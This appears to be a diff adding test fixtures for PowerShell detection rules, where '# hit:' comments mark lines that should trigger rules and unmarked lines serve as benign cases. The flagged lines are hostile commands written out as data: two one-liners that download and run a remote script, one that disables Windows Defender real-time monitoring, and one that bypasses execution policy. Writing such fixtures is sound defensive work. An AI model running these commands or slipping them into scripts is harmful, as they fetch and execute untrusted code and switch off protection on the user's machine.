@@ -1,0 +1,10 @@
+# hit: escrow.ps.libraries.runs-what-it-downloads
+IEX (New-Object Net.WebClient).DownloadString('http://tools.example/setup.ps1')
+# hit: escrow.ps.libraries.runs-what-it-downloads
+iwr https://tools.example/setup.ps1 | iex
+Invoke-WebRequest -Uri https://data.example/rates.json -OutFile rates.json
+# hit: escrow.ps.libraries.turns-protection-off
+Set-MpPreference -DisableRealtimeMonitoring $true
+# hit: escrow.ps.libraries.turns-protection-off
+Set-ExecutionPolicy Bypass -Scope Process
+Set-ExecutionPolicy RemoteSigned
